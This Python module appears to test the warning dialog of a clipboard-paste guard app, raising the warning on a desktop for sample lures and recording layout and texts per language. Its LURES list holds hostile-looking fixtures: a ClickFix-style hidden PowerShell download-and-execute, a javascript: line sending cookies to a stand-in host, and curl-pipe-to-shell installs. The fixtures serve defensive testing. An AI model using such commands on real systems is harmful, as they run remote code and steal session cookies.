"""The warning in the states people meet it, drawn on a real desktop and checked.

`python -m ui.warning.states LANG OUT.json [PICTURE_DIR]`, run inside an X session (Xvfb and a
window manager, see tests/desktop.py and ui/screenshots.py), builds a real GuardApp over the
profile the environment names, raises the warning for each lure below in language LANG, opens
"Why?", presses "Report to IT", and writes what ui.layout_check found, with every text shown,
to OUT.json.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from PySide6.QtWidgets import QWidget

    from ui.application import GuardApp

# (name, text, source page, paste target): a long source address, a stealer whose action
# names the host it sends to, a plain terminal paste, and a download from a site posing as a
# known publisher (the longest headline in every language: its action names a long host)
LURES = [
    (
        "clickfix",
        'powershell -w h -c "iwr https://cdn-check.example/v.ps1 | iex"'
        + " " * 60
        + "# I am not a robot - Verification ID: 7537",
        "https://captcha-check-secure-verification-gateway.example/cdn-cgi/challenge-platform/"
        "h/b/orchestrate/chl_page/v1?ray=8c1f2a3b4d5e6f70&lang=auto&redirect=%2Fdownload%2F",
        "run_dialog",
    ),
    (
        "stealer",
        "javascript:fetch('https://grab.example/t?c='+document.cookie)",
        "https://free-nitro.example/claim",
        "browser_console",
    ),
    (
        "terminal",
        "curl -fsSL https://brew-fix.example/install.sh | zsh",
        "https://support-mac.example/",
        "terminal",
    ),
    (
        "imitator",
        "curl -fsSLO https://homebrew-install-official-mirror-update.site/install.sh",
        "https://macos-developer-tools-help.example/getting-started/install-homebrew",
        "terminal",
    ),
]


def settle(seconds: float = 0.4) -> None:
    """Let events run for `seconds` (off X, where the window manager cannot be asked)."""
    from PySide6.QtWidgets import QApplication

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        QApplication.processEvents()
        time.sleep(0.02)


def _on_the_server(window: QWidget) -> tuple[bool, int, int] | None:
    """Whether the X server has `window` mapped, and its size there: what the window manager
    made of Qt's requests (xwininfo, x11-utils). None when it cannot be asked."""
    try:
        found = subprocess.run(["xwininfo", "-id", str(int(window.winId()))],
                               capture_output=True, text=True, timeout=10)  # fmt: skip
    except (OSError, subprocess.TimeoutExpired):
        return None
    said = dict(re.findall(r"^\s*(Width|Height|Map State):\s*(\S+)", found.stdout, re.M))
    if found.returncode != 0 or len(said) != 3:
        return None
    return said["Map State"] == "IsViewable", int(said["Width"]), int(said["Height"])


def settled(window: QWidget, timeout: float = 10.0) -> None:
    """Until the window manager has answered and the layouts settled: the X server holds
    `window` mapped (unmapped once hidden) at the very size Qt shows, twice in a row with every
    event handled between. Fixed waits of 0.4 s took 8 s of each language's drawing and were
    still a guess under load. Off X (no xwininfo answer), `settle` as before."""
    from PySide6.QtGui import QGuiApplication
    from PySide6.QtWidgets import QApplication

    if QGuiApplication.platformName() != "xcb":
        settle()
        return
    deadline = time.monotonic() + timeout
    last: tuple[bool, int, int] | None = None
    while True:
        QApplication.processEvents()
        server = _on_the_server(window)
        if server is None:
            settle()
            return
        QApplication.processEvents()  # what the window manager sent meanwhile
        shown, ratio = window.isVisible(), window.devicePixelRatioF()
        size = (round(window.width() * ratio), round(window.height() * ratio))
        agreed = server == (shown, *size) if shown else not server[0]
        if agreed and server == last:
            return
        last = server if agreed else None
        if time.monotonic() > deadline:
            raise SystemExit(f"the window manager never settled {window.windowTitle()!r}")
        time.sleep(0.01)


def raise_warning(guard: GuardApp, text: str, source: str, target: str) -> QWidget:
    """A real copy and a real Ctrl+V into a window of `target`'s kind: the guard warns."""
    from PySide6.QtCore import QMimeData
    from PySide6.QtGui import QClipboard, QGuiApplication
    from PySide6.QtWidgets import QApplication

    from app.guard.service import digest
    from app.platform.base import KeyEvent, WindowInfo

    windows = {
        "run_dialog": WindowInfo("explorer.exe", "#32770", "Run"),
        "terminal": WindowInfo("xterm", "XTerm", "bash"),
        "browser_console": WindowInfo("chrome", "Google-chrome", "DevTools - example"),
    }
    data = QMimeData()
    data.setText(text)
    data.setData("chromium/x-source-url", source.encode())
    QGuiApplication.clipboard().setMimeData(data, QClipboard.Mode.Clipboard)
    service = guard.service
    judged = digest(text)
    deadline = time.monotonic() + 10
    while True:  # until the guard has judged this copy (it was a fixed 0.2 s)
        QApplication.processEvents()
        service.process_pending()
        current = service.current
        if current is not None and current.digest == judged:
            break
        if time.monotonic() > deadline:
            raise SystemExit(f"the guard never judged {text!r}")
        time.sleep(0.01)
    service.foreground = lambda: windows[target]
    now = time.monotonic()
    service.on_key(KeyEvent("ctrl", True, frozenset({"ctrl"}), now))
    service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), now + 0.01))
    service.on_key(KeyEvent("v", False, frozenset({"ctrl"}), now + 0.05))  # keys let go, so
    service.on_key(KeyEvent("ctrl", False, frozenset(), now + 0.06))  # the next Ctrl+V counts
    service.process_pending()
    dialog = guard.warning
    deadline = time.monotonic() + 5
    while (
        not (
            dialog.isVisible()
            and dialog.warning is not None
            and dialog.warning.target.value == target
        )
        and time.monotonic() < deadline
    ):
        service.process_pending()
        QApplication.processEvents()
        time.sleep(0.01)
    if not dialog.isVisible() or dialog.warning is None:
        raise SystemExit(f"no warning for {text!r}")
    settled(dialog)
    return dialog


def texts(window: QWidget) -> list[str]:
    """Every text a person reads in the window (labels, buttons, the reasons' headings)."""
    from PySide6.QtWidgets import QAbstractButton, QLabel

    out = [window.windowTitle()]
    for widget in window.findChildren(QLabel) + window.findChildren(QAbstractButton):
        if widget.isVisibleTo(window) and widget.text():
            out.append(widget.text())
        if widget.toolTip():
            out.append(widget.toolTip())
        for text in (widget.accessibleName(), widget.accessibleDescription()):
            if text:
                out.append(text)
    return out


def check(guard: GuardApp, pictures: Path | None, language: str) -> dict[str, Any]:
    from ui.layout_check import problems

    results: dict[str, Any] = {}
    for name, text, source, target in LURES:
        dialog = raise_warning(guard, text, source, target)
        states: dict[str, Any] = {}
        for state in ("plain", "why", "report"):
            if state == "why":
                dialog.why.setChecked(True)  # type: ignore[attr-defined]
            if state == "report":
                dialog.report.click()  # type: ignore[attr-defined]
            settled(dialog)
            states[state] = {"problems": problems(dialog), "texts": texts(dialog),
                             "size": [dialog.width(), dialog.height()]}  # fmt: skip
            if pictures is not None:
                dialog.grab().save(str(pictures / f"warning-{language}-{name}-{state}.png"))
        results[name] = states
        dialog.hide()
        guard.warning._keep_safe()
        settled(dialog)  # unmapped before the next lure's warning
    return results


def main(argv: list[str]) -> int:
    import os

    from PySide6.QtGui import QClipboard, QGuiApplication
    from PySide6.QtWidgets import QApplication

    language, out = argv[0], Path(argv[1])
    pictures = Path(argv[2]) if len(argv) > 2 else None
    qt = QApplication(sys.argv[:1])
    qt.setQuitOnLastWindowClosed(False)
    policy = Path(os.environ["PASTEGUARD_POLICY"])
    policy.write_text(f'mode = "warn"\nlanguage = "{language}"\n', encoding="utf-8")
    from app.platform.fallback import NullBackend
    from ui.application import GuardApp

    guard = GuardApp(qt, Path(os.environ["PASTEGUARD_DATA_DIR"]), use_tray=False)
    guard.backend = NullBackend("warning states", {})
    guard.service.can_suppress_keys = True
    guard.outcomes.open_url = lambda url: False  # no mail program on a test desktop
    try:
        result = check(guard, pictures, language)
    finally:
        guard.stop()
        QGuiApplication.clipboard().clear(QClipboard.Mode.Clipboard)
    out.write_text(json.dumps(result, ensure_ascii=False, indent=1), encoding="utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
